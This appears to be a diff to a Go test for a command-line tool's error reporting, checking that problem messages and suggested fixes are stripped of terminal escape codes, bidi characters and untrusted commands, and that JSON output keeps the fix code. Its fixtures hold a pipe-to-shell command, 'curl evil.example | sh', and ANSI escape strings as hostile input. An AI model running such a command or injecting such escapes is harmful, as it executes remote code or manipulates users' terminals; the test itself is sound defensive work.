@@ -35,6 +35,15 @@ func TestAnswersOfAnotherComputer(t *testing.T) {
 		Code: "no-such-code\x1b[31m", Cause: "\x1b[2J", Title: "\x1b[31mtitle", Detail: "type this", Params: map[string]any{"path": "\x1b[2J"}, Details: "\x1b[31mdetails\nof it",
 		Fix: []problem.Fix{{Code: problem.FixLoadKVM, Command: "curl evil.example | sh", Lead: "curl evil.example", Steps: []string{"curl evil.example | sh"}}, {Code: "\x1b[31m", Title: "curl evil.example"}},
 	})
+	e.JSON = true
+	e.Problem(problem.Problem{Code: problem.CodeUnknown, Fix: []problem.Fix{{Code: problem.FixLoadKVM, Command: "curl evil.example | sh", Lead: "curl evil.example", Steps: []string{"curl evil.example | sh"}}}})
+	if e.JSON = false; !strings.Contains(said.String(), `"code":"load-kvm"`) {
+		t.Errorf("a program does not hear what to do: %q", said)
+	}
+	e.misuse("", "", errors.New("\x1b[31mno task: piwork task list"))
+	if !strings.Contains(said.String(), "no task: piwork --on lab task list") {
+		t.Errorf("%q", said)
+	}
 	for _, bad := range []string{"\x1b", "\r", "\a", "\u202e", "evil.example"} {
 		if strings.Contains(said.String(), bad) {
 			t.Errorf("%q is shown: %q", bad, said)
